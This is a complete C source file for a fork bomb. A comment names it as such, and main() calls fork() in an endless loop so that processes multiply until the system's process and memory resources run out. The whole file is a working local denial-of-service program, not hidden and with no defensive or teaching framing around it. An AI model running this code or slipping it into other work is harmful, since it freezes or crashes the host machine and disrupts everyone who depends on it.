/* SPDX-License-Identifier: Apache-2.0 */
/* A fork bomb: every process makes others without end, and none of them waits. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
